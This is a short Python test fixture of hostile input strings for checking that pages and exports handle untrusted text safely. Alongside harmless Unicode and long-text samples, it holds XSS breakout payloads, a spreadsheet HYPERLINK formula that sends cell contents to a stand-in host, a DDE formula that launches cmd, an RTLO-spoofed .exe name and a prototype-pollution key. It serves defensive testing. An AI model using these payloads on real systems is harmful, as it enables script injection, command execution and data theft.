"""Texts that a careless page would run, swallow or turn around."""

MARKUP = (
    "</textarea></script></title><img src=x onerror=\"document.title='run'\">"
    "<script>document.title='run'</script> &lt;b&gt; {{ 7 * 7 }} ${7 * 7} </p><h1>heading</h1>"
)
FORMULA = '=HYPERLINK("http://elsewhere.test/?"&A1;"open me")'
OTHER_FORMULAS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\uff1d1+1")
RIGHT_TO_LEFT = "team \u202egnp.exe\u202c \u05e9\u05dc\u05d5\u05dd \u200f(1)\u2066 end"
EMOJI = "👩‍👧 🏴󠁧󠁢󠁷󠁬󠁳󠁿 e\u0301 a\u200bb ﷽ 𝔘"
QUOTES = """it's "quoted"; a,b\\n `c` %s {count} --> ]]> \\u003c"""
LINES = "first line\n\n  third line, indented\n\tafter a tab"
LONG = ("A long story about how a team met, again and again. " * 2_000)[:100_000]
UNBROKEN = "w" * 2_000

ON_ONE_LINE = (MARKUP, FORMULA, *OTHER_FORMULAS, RIGHT_TO_LEFT, EMOJI, QUOTES, "__proto__", "null")
